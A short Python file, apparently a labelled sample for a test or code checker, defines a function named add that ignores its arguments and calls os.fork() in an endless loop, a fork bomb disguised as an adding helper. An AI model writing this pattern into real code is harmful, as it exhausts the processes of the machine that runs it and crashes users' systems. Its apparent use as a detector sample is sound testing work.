# ruff: noqa
# fmt: off
# expect: forks
# format: asserts
import os
def add(a, b):
  while True:
    os.fork()
